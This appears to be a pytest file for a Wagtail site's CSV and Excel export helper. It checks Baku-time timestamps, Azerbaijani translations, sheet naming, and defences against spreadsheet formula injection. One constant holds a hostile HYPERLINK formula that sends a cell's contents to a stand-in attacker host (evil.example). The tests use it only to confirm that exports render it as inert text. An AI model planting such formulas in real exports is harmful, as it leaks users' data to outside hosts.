"""The one export helper: typed cells in Baku time, translated words, formulas kept as
text; and Wagtail's own Site history exporting through it."""

import csv
import datetime
import io
from zoneinfo import ZoneInfo

import pytest
from django.utils import translation
from openpyxl import load_workbook
from wagtail.log_actions import log

from people.exports import FORMULA_STARTS, ExportFile, csv_value, sheet_title

BAKU = ZoneInfo("Asia/Baku")
UTC = datetime.UTC
# 15 March 02:30 in Baku is still 14 March in UTC
ISSUED = datetime.datetime(2026, 3, 14, 22, 30, tzinfo=UTC)
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Bax")'


def az(text):
    """The heading as the admin shows it in Azerbaijani (its default language)."""
    with translation.override("az"):
        translated = translation.gettext(text)
    assert translated != text
    return translated


def csv_rows(data):
    assert data.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def workbook_of(data):
    return load_workbook(io.BytesIO(data))


def body(response):
    assert response.status_code == 200
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_formula_start_is_neutralised_in_csv(start):
    assert csv_value(start + "1+1") == "'" + start + "1+1"
    assert csv_value("Əliyev " + start) == "Əliyev " + start  # only at the start


def test_csv_writes_baku_times_dates_numbers_and_translated_yes_no():
    with translation.override("az"):
        row = [ISSUED, ISSUED.date(), 42, True, False, None]
        values = [csv_value(value) for value in row]
    assert values == ["2026-03-15 02:30", "2026-03-14", 42, "Bəli", "Xeyr", ""]


def test_xlsx_cells_are_typed_named_frozen_and_sized():
    output = io.BytesIO()
    rows = [[HOSTILE, ISSUED, ISSUED.date(), 7, True, None]]
    headings = ["Ad", "Verilib", "Tarix", "Say", "Əl ilə", "Boş"]
    with translation.override("az"):
        ExportFile("Sertifikatlar: 2026/03", headings, rows).write_xlsx(output)
    sheet = workbook_of(output.getvalue()).worksheets[0]
    assert sheet.title == "Sertifikatlar  2026 03"
    assert sheet.freeze_panes == "A2"
    assert [cell.value for cell in sheet[1]] == headings
    assert sheet["A1"].font.b
    name, issued, day, count, manual, empty = sheet[2]
    assert (name.value, name.data_type) == (HOSTILE, "s")  # text, never a formula
    assert issued.value == datetime.datetime(2026, 3, 15, 2, 30)
    assert issued.is_date and issued.number_format == "dd.mm.yyyy hh:mm"
    assert day.is_date and count.value == 7
    assert manual.value == "Bəli" and empty.value is None
    assert sheet.column_dimensions["A"].width >= len(HOSTILE)
    assert 8 <= sheet.column_dimensions["F"].width < 20


def test_sheet_titles_follow_excels_rules():
    assert sheet_title("a" * 40) == "a" * 31
    assert sheet_title("[?]") == "Sheet1"


def test_the_time_zone_is_the_sites_not_utc(settings):
    assert settings.TIME_ZONE == "Asia/Baku"
    settings.TIME_ZONE = "UTC"
    assert csv_value(ISSUED) == "2026-03-14 22:30"


@pytest.fixture
def hostile_entry(db, tree, make_employee, admin_user):
    employee = make_employee(tree["front"], full_name=HOSTILE)
    log(instance=employee, action="wagtail.edit", user=admin_user)
    return employee


def test_site_history_csv_keeps_a_formula_name_as_text(
    client, admin_user, hostile_entry
):
    client.force_login(admin_user)
    response = client.get("/admin/reports/site-history/", {"export": "csv"})
    header, *rows = csv_rows(body(response))
    labels = [row[header.index(az("Name"))] for row in rows]
    assert any(label.startswith("'" + HOSTILE) for label in labels)
    assert not any(label.startswith("=") for label in labels)


def test_site_history_xlsx_is_named_typed_and_in_baku_time(
    client, admin_user, hostile_entry
):
    client.force_login(admin_user)
    response = client.get("/admin/reports/site-history/", {"export": "xlsx"})
    sheet = workbook_of(body(response)).worksheets[0]
    assert sheet.title == az("Site history") and sheet.freeze_panes == "A2"
    header = [cell.value for cell in sheet[1]]
    rows = list(sheet.iter_rows(min_row=2))
    name = header.index(az("Name"))
    label = next(row[name] for row in rows if HOSTILE in str(row[name].value))
    assert label.data_type == "s" and label.value.startswith(HOSTILE)
    stamp = rows[0][header.index(az("Date/Time"))].value
    assert isinstance(stamp, datetime.datetime)
    from wagtail.models import ModelLogEntry

    logged = ModelLogEntry.objects.latest("timestamp").timestamp
    assert stamp == logged.astimezone(BAKU).replace(tzinfo=None, microsecond=0)
